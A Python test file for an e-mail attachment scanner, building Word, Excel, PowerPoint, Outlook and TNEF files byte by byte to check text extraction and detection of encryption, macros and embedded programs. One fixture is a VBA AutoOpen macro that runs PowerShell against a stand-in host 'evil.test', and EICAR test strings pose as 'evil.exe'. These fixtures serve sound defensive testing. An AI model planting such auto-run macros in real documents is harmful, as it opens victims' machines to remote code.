"""Office 97-2003, Outlook messages, macros and TNEF, from files built byte by byte."""

import io
import struct
import zipfile

import docx
import pytest

from scanners.attachments import lzfu
from scanners.attachments.budget import Budget
from scanners.attachments.reading import Reading
from scanners.attachments.yara import YaraEngine
from tests.scanners.attachments.compound import compound, vba_project
from tests.scanners.attachments.samples import CN_ID, EICAR, look, zipped

_MACRO = 'Sub AutoOpen()\r\n Shell "powershell http://evil.test/a"\r\nEnd Sub'


def _doc(text: str, flags: int = 0, **more: bytes) -> bytes:
    """A Word 97 file: a header, a piece table with one Unicode piece and one 8-bit piece."""
    wide = text.encode("utf-16-le")
    tail = b" ascii tail"
    main = bytearray(0x800)
    main[0:2] = b"\xec\xa5"
    struct.pack_into("<H", main, 0x0A, 0x0200 | flags)
    start = len(main)
    main += wide + tail
    ends = struct.pack("<3I", 0, len(text), len(text) + len(tail))
    pieces = struct.pack("<HIH", 0, start, 0) + struct.pack("<HIH", 0, (start + len(wide)) * 2 | 0x40000000, 0)
    clx = b"\x02" + struct.pack("<I", len(ends) + len(pieces)) + ends + pieces
    struct.pack_into("<II", main, 0x1A2, 0, len(clx))
    return compound({"WordDocument": bytes(main), "1Table": clx, **more})


def test_doc_by_its_piece_table(engine: YaraEngine) -> None:
    seen = look(engine, "a.doc", _doc(f"身份证 {CN_ID}\r第二段"))
    assert f"身份证 {CN_ID}\n第二段 ascii tail" in seen.text()
    assert seen.part("2").media_type == "application/msword"
    assert seen.codes == set()


def test_encrypted_doc(engine: YaraEngine) -> None:
    assert look(engine, "a.doc", _doc("x", 0x0100)).codes == {"content.encrypted"}


def test_doc_without_a_table_is_unreadable(engine: YaraEngine) -> None:
    assert "content.unreadable" in look(engine, "a.doc", compound({"WordDocument": bytes(0x800)})).codes


def test_macros_in_a_doc(engine: YaraEngine) -> None:
    seen = look(engine, "a.doc", _doc("x", **vba_project(_MACRO, "Macros/")))
    finding = seen.finding("attachment.macro")
    assert finding.severity == 4
    assert "http://evil.test/a" in seen.text()


def test_macros_in_a_docm(engine: YaraEngine) -> None:
    out = io.BytesIO()
    docx.Document().save(out)
    project = compound(vba_project("Sub Harmless()\r\nEnd Sub"), pad=True)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/vbaProject.bin", project)
    assert look(engine, "a.docm", out.getvalue()).finding("attachment.macro").severity == 3


def test_ppt_text_atoms(engine: YaraEngine) -> None:
    def atom(kind: int, content: bytes) -> bytes:
        return struct.pack("<HHI", 0, kind, len(content)) + content

    inner = atom(0x0FA0, f"标题 {CN_ID}".encode("utf-16-le")) + atom(0x0FA8, b"notes")
    document = struct.pack("<HHI", 0xF, 1000, len(inner)) + inner
    text = look(engine, "a.ppt", compound({"PowerPoint Document": document})).text()
    assert f"标题 {CN_ID}" in text
    assert "notes" in text


def _record(kind: int, content: bytes) -> bytes:
    return struct.pack("<HH", kind, len(content)) + content


def _xls(*, sheet_kind: int = 0, locked: bool = False, text: str = "") -> bytes:
    start = _record(0x0809, struct.pack("<HHHHII", 0x0600, 5, 0, 0, 0, 6))
    if locked:
        start += _record(0x002F, bytes(6))
    end = _record(0x000A, b"")
    cell = _record(0x0204, struct.pack("<HHHHB", 0, 0, 0, len(text), 1) + text.encode("utf-16-le"))
    sheet = _record(0x0809, struct.pack("<HHHHII", 0x0600, 16, 0, 0, 0, 6)) + cell + end
    size = len(start) + len(_record(0x0085, bytes(8 + 1))) + len(end)
    bound = _record(0x0085, struct.pack("<IBBBB", size, 0, sheet_kind, 1, 0) + b"S")
    return compound({"Workbook": start + bound + end + sheet})


def test_xls_cells(engine: YaraEngine) -> None:
    assert CN_ID in look(engine, "a.xls", _xls(text=CN_ID)).text()


def test_xls_shared_strings_over_a_continuation(engine: YaraEngine) -> None:
    """The table is cut in the middle of a string, whose rest comes in the other width."""
    first = struct.pack("<II", 2, 2) + struct.pack("<HB", 6, 1) + "身份证".encode("utf-16-le")
    rest = b"\0abc" + struct.pack("<HBH", 4, 8, 1) + b"rich" + bytes(4)
    cells = b"".join(_record(0x00FD, struct.pack("<HHHI", 3, column, 0, 1 - column)) for column in (0, 1))
    numbers = _record(0x0203, struct.pack("<HHHd", 4, 0, 0, 6222021234.0)) + _record(
        0x027E, struct.pack("<HHHI", 4, 1, 0, (1234 << 2) | 2)
    )
    numbers += _record(0x00BD, struct.pack("<HHHIHIH", 5, 0, 0, (7 << 2) | 3, 0, (-5 << 2) & 0xFFFFFFFF | 2, 1))
    stream = (
        _record(0x0809, bytes(16))
        + _record(0x00FC, first)
        + _record(0x003C, rest)
        + cells
        + numbers
        + _record(0x000A, b"")
    )
    text = look(engine, "a.xls", compound({"Workbook": stream})).text()
    assert "rich\t身份证abc\n6222021234\t1234\n0.07\t-5" in text


def test_xls_whose_cells_lie_at_the_far_corners(engine: YaraEngine) -> None:
    cells = b"".join(_record(0x0203, struct.pack("<HHHd", row, row, 0, 1.0)) for row in (0, 65_535))
    stream = _record(0x0809, bytes(16)) + cells
    assert look(engine, "a.xls", compound({"Workbook": stream})).codes == set()


def _record12(kind: int, body: bytes) -> bytes:
    head = bytes([kind]) if kind < 0x80 else bytes([kind & 0x7F | 0x80, kind >> 7])
    return head + bytes([len(body) & 0x7F | 0x80, len(body) >> 7]) + body


def _wide12(text: str) -> bytes:
    return struct.pack("<I", len(text)) + text.encode("utf-16-le")


def test_xlsb_cells(engine: YaraEngine) -> None:
    record, wide = _record12, _wide12
    sheet = record(0, struct.pack("<I", 0) + bytes(21)) + record(7, bytes(8) + struct.pack("<I", 0))
    sheet += (
        record(6, bytes(8) + wide(CN_ID))
        + record(2, bytes(8) + struct.pack("<I", (42 << 2) | 2))
        + record(5, bytes(8) + struct.pack("<d", 1.5))
    )
    data = zipped(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.bin": record(156, struct.pack("<II", 0, 1) + wide("rId1") + wide("隐藏表")),
            "xl/sharedStrings.bin": record(19, b"\0" + wide("身份证")),
            "xl/worksheets/sheet1.bin": sheet,
        }
    )
    text = look(engine, "a.xlsb", data).text()
    assert f"身份证\t{CN_ID}\t42\t1.5" in text
    assert "隐藏表" in text


def test_xlsb_parts_are_read_whatever_they_are_called(engine: YaraEngine) -> None:
    record, wide = _record12, _wide12
    strings = record(159, bytes(8)) + record(19, b"\0" + wide("身份证")) + record(19, b"\0" + wide("无人引用"))
    cells = (
        record(0, struct.pack("<I", 0) + bytes(21))
        + record(7, bytes(8) + struct.pack("<I", 0))
        + record(6, bytes(8) + wide(CN_ID))
    )
    data = zipped(
        {"[Content_Types].xml": "<Types/>", "xl/a/blatt.bin": record(129, b"") + cells, "xl/zz9.bin": strings}
    )
    text = look(engine, "a.xlsb", data).text()
    assert CN_ID in text
    assert "身份证" in text
    assert "无人引用" in text


def test_excel_4_macros(engine: YaraEngine) -> None:
    assert look(engine, "a.xls", _xls(sheet_kind=1, text="x")).finding("attachment.macro").about == "xlm"


def test_encrypted_xls(engine: YaraEngine) -> None:
    assert "content.encrypted" in look(engine, "a.xls", _xls(locked=True)).codes


def test_encrypted_ooxml(engine: YaraEngine) -> None:
    data = compound({"EncryptedPackage": b"\x10" * 5000, "EncryptionInfo": b"rubbish"})
    assert look(engine, "a.docx", data, words=("a", "b")).codes == {"content.encrypted"}


def test_ooxml_encrypted_with_a_word_of_the_mail(engine: YaraEngine) -> None:
    format_module = pytest.importorskip("msoffcrypto.format.ooxml", reason="msoffcrypto missing: pip install oletools")
    plain, out = io.BytesIO(), io.BytesIO()
    document = docx.Document()
    document.add_paragraph(f"身份证 {CN_ID}")
    document.save(plain)
    plain.seek(0)
    format_module.OOXMLFile(plain).encrypt("geheim", out)
    assert "content.encrypted" in look(engine, "a.docx", out.getvalue()).codes
    opened = look(engine, "a.docx", out.getvalue(), words=("nein", "geheim"))
    assert "content.decrypted" in opened.codes
    assert CN_ID in opened.text()


def _package(name: bytes, content: bytes) -> bytes:
    label = (
        b"\x02\0" + name + b"\0C:\\" + name + b"\0" + b"\0\0\x03\0" + struct.pack("<I", len(name) + 1) + name + b"\0"
    )
    body = label + struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(body)) + body


def test_a_program_embedded_in_a_doc(engine: YaraEngine) -> None:
    data = _doc("x", **{"ObjectPool/_1/\x01Ole10Native": _package(b"evil.exe", EICAR)})
    seen = look(engine, "a.doc", data)
    assert {"malware.yara.eicar", "attachment.ole_object", "attachment.dangerous_type"} <= seen.codes
    assert any(path.endswith("!evil.exe") for path in seen.paths)


def test_outlook_message(engine: YaraEngine) -> None:
    data = compound(
        {
            "__properties_version1.0": b"",
            "__substg1.0_0037001F": "主题机密".encode("utf-16-le"),
            "__substg1.0_1000001F": f"正文 {CN_ID}".encode("utf-16-le"),
            "__attach_version1.0_#00000000/__substg1.0_3707001F": "b.zip".encode("utf-16-le"),
            "__attach_version1.0_#00000000/__substg1.0_37010102": zipped({"b.com": EICAR * 80}, zipfile.ZIP_STORED),
        }
    )
    seen = look(engine, "a.msg", data)
    assert "主题机密" in seen.text()
    assert CN_ID in seen.text()
    assert "malware.yara.eicar" in seen.codes


def test_unknown_compound_file_is_not_silent(engine: YaraEngine) -> None:
    assert "content.unreadable" in look(engine, "a.vsd", compound({"VisioDocument": b"x"})).codes


@pytest.mark.parametrize("cut", [8, 100, 512, 600, 5000])
def test_a_cut_compound_file_is_unreadable(engine: YaraEngine, cut: int) -> None:
    assert "content.unreadable" in look(engine, "a.doc", _doc("x" * 50)[:cut]).codes


def _tnef() -> bytes:
    def attribute(level: int, number: int, content: bytes) -> bytes:
        return struct.pack("<BII", level, number, len(content)) + content + struct.pack("<H", sum(content) & 0xFFFF)

    data = struct.pack("<IH", 0x223E9F78, 1)
    data += attribute(1, 0x00089006, struct.pack("<I", 0x00010000)) + attribute(
        1, 0x00069007, struct.pack("<II", 936, 0)
    )
    data += attribute(1, 0x0002800C, f"body {CN_ID}\0".encode())
    data += attribute(2, 0x00069002, bytes(14)) + attribute(2, 0x00018010, b"b.com\0") + attribute(2, 0x0006800F, EICAR)
    return data


def test_tnef_body_and_attachment(engine: YaraEngine) -> None:
    pytest.importorskip("tnefparse", reason="tnefparse missing: pip install sealgate[tnef]")
    seen = look(engine, "winmail.dat", _tnef())
    assert CN_ID in seen.text()
    assert {"malware.yara.eicar", "attachment.dangerous_type"} <= seen.codes


def test_broken_tnef_is_not_silent(engine: YaraEngine) -> None:
    assert "content.unreadable" in look(engine, "winmail.dat", _tnef()[:40] + b"\xff" * 60).codes


def test_an_outlook_message_is_read_wherever_its_parts_lie(engine: YaraEngine) -> None:
    rtf = b"{\\rtf1 hello " + CN_ID.encode() + b"}"
    stored = struct.pack("<IIII", len(rtf) + 12, len(rtf), 0x414C454D, 0) + rtf
    literal = b"".join(b"\0" + rtf[at : at + 8] for at in range(0, len(rtf), 8))
    packed = struct.pack("<IIII", len(literal) + 12, len(rtf), 0x75465A4C, 0) + literal
    front = {"__properties_version1.0": b""}
    for name, streams in {
        "stored": {"__substg1.0_10090102": stored},
        "packed": {"__substg1.0_10090102": packed},
        "within": {
            "__attach_version1.0_#00000000/__substg1.0_3701000D/__substg1.0_1000001F": CN_ID.encode("utf-16-le")
        },
        "in other letters": {"__SubStg1.0_1000001f": CN_ID.encode("utf-16-le")},
        "a sender in other letters": {"__substg1.0_0c1a001f": CN_ID.encode("utf-16-le")},
        "after a gap": {"__attach_version1.0_#00000007/__substg1.0_37010102": zipped({"a.txt": CN_ID})},
        "page": {"__substg1.0_10130102": f"<p style='display:none'>{CN_ID}</p>".encode()},
    }.items():
        assert CN_ID in look(engine, "a.msg", compound(front | streams)).text(), name


def test_compressed_rtf_repeats_itself() -> None:
    """The example of MS-OXRTFCP 4.1.1: literals, and runs from the dictionary that every reader has."""
    sample = bytes.fromhex(
        "2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c090020627705b06c647d0a800fa0"
    )
    reading = Reading("", "", Budget(lambda: 0.0, 1.0, 1000), (), lambda *_: None, lambda _: None)
    assert lzfu.decompress(sample, reading) == b"{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n"
    for cut in range(len(sample)):
        lzfu.decompress(sample[:cut], reading)
